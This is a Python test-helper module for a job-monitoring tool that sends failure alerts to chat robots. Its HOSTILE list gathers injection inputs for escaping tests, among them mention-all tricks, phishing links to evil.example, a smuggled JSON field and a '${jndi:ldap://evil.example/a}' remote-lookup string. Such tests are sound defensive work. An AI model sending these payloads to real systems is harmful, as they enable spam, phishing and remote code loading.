"""What the tests of the three chat robots share: events as stored, hostile texts, golden payloads."""

import json
from collections.abc import Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from hypothesis import strategies as st

from jobwatch.core.documents import document, released
from jobwatch.core.encoding import encode
from jobwatch.core.events import Count, DigestEvent, EventType, JobEvent, Severity
from jobwatch.core.http import HttpRequest
from jobwatch.core.model import FailureReason, JobDetail
from jobwatch.formats.values import Mention, Recipient, Style, Told
from tests.factories import HOUR, MINUTE, NOW, detail, event, job, origin, progress, snapshot

SAMPLES = Path(__file__).parent.parent / "samples" / "payloads"
PUBLIC = "https://jobwatch.example.com"
JOB = "021140d8-67ca-4e89-8089-0de9a1e40943"

TEAM = Mention(types=frozenset({"job.failed"}), mobiles=("13800000001", "13800000002"))
CHINESE = Style(
    language="zh",
    timezone=ZoneInfo("Asia/Shanghai"),
    timezone_name="Asia/Shanghai",
    title_prefix="[jobwatch] ",
    mention=Mention(types=TEAM.types, mobiles=TEAM.mobiles, everybody=True),
)

HOSTILE = [
    "<@all> wake up",
    "<@zhangsan>",
    "@13800009999 @all",
    '<at id=all></at><at user_id="all">x</at>',
    "[click here](https://evil.example/login)",
    "![pixel](https://evil.example/p.png)",
    "https://evil.example/?a=1&b=2",
    '<font color="warning">all is lost</font>',
    "# headline",
    "> quoted",
    "- item",
    "---",
    "1. first",
    "**bold** *slanted* __bold__ _slanted_ ~~gone~~",
    "`code` ``` fence",
    "line\n# headline\n\n> quote\r\n- item",
    "&lt;@all&gt; &#60;@all&#62;",
    "\\u003c@all\\u003e \\*",
    "a\u202egnp.exe\u200b\u0000\u001b[31m",
    "lone \ud800 surrogate",
    '"}],"msg_type":"text","at":{"isAtAll":true}',
    "{{7*7}} ${jndi:ldap://evil.example/a} $urlVal",
    "| a | b |",
]
"""What somebody may write into a job's description, or a cloud into its reason."""

TEXTS = st.builds(
    lambda text, times: text * times,
    st.text(st.characters() | st.sampled_from("<>@*`[]()_#-&\\\"'\n\u202e\U0001f600"), max_size=20),
    st.sampled_from([1, 1, 40, 2000]),
)
"""Any text, short or very long, and more markup in it than chance would give."""


def failed_job(description: str = "nightly copy", **fields: Any) -> JobEvent:
    """Six of ten tasks failed, and so did the job."""
    told = job(
        "Failed",
        id=JOB,
        operation="COSPutObjectCopy",
        description=description,
        progress=progress(succeeded=4, failed=6),
        created_at=NOW - HOUR,
        ended_at=NOW - MINUTE,
    )
    place = origin(public_url=PUBLIC)
    return event(snapshot(of=told, started_at=NOW - 50 * MINUTE), origin=place, **fields)


def completed_job() -> JobEvent:
    """The same job, as a cloud says that it is complete."""
    told = job("Done", id=JOB, operation="COSPutObjectCopy", progress=progress(997, 3, 1000))
    return event(
        snapshot(of=told, started_at=NOW - 50 * MINUTE),
        type=EventType.COMPLETED_WITH_FAILURES,
        severity=Severity.WARNING,
        origin=origin(public_url=PUBLIC),
    )


def told(of: JobEvent, found: JobDetail | None = None, number: int = 42) -> Told:
    """A job's event as the store hands it out."""
    doc = released(document(of, number), found or why(), None)
    return Told(id=str(doc["id"]), type=of.type.value, body=encode(doc))


def why(reason: str = "60% of the tasks failed", code: str = "AccessDenied") -> JobDetail:
    """What DescribeJob adds."""
    return detail(
        status_reason=reason,
        failures=(FailureReason(code=code, message=reason),),
        report={
            "bucket": "reports-1250000000",
            "prefix": "batch/_2026-11/",
            "scope": "FailedTasks",
        },
    )


def failed() -> Told:
    """A failed job."""
    return told(failed_job())


def completed() -> Told:
    """A complete job with failed tasks."""
    return told(completed_job())


def hostile(text: str) -> Told:
    """A failed job with this text wherever a stranger may write one."""
    return told(failed_job(text), why(text, text))


def digest(members: int = 37, shown: int = 3, description: str = "nightly copy") -> Told:
    """A minute full of failures, so many of them as samples."""
    one: Mapping[str, object] = document(failed_job(description), 42)
    samples = [one] * shown
    news = DigestEvent(
        severity=Severity.CRITICAL,
        origin=origin(source="", public_url=PUBLIC),
        receiver="ops",
        observed_at=NOW,
        began_at=NOW - timedelta(minutes=1),
        ended_at=NOW,
        counts=(
            Count(
                source="prod",
                type=EventType.FAILED,
                severity=Severity.CRITICAL,
                count=members,
                tasks=members * 10,
                tasks_failed=members * 6,
            ),
        ),
        samples=tuple(samples),
    )
    doc = document(news, 43)
    body = json.dumps(doc, ensure_ascii=False).encode()  # whatever the store would cut
    return Told(id=str(doc["id"]), type="digest", body=body)


def recipient(
    url: str, *, style: Style | None = None, secrets: tuple[str, ...] = (), **fields: Any
) -> Recipient:
    """A robot named `ops`."""
    return Recipient(name="ops", url=url, secrets=secrets, style=style or Style(), **fields)


def body_of(request: HttpRequest) -> dict[str, Any]:
    """What a robot reads."""
    body = json.loads(request.body)
    assert isinstance(body, dict)
    return body


def golden(name: str) -> dict[str, Any]:
    """A payload as it was looked at and found right."""
    body = json.loads((SAMPLES / name).read_text())
    assert isinstance(body, dict)
    return body


MARKUP = "<>@*`[]&\\~"


def markup(text: str) -> dict[str, int]:
    """How often each thing that could mean something to a robot is in a text."""
    found = {each: text.count(each) for each in (*MARKUP, "://", "\n", "\n#", "\n- ", "\n> ")}
    return {each: count for each, count in found.items() if count}
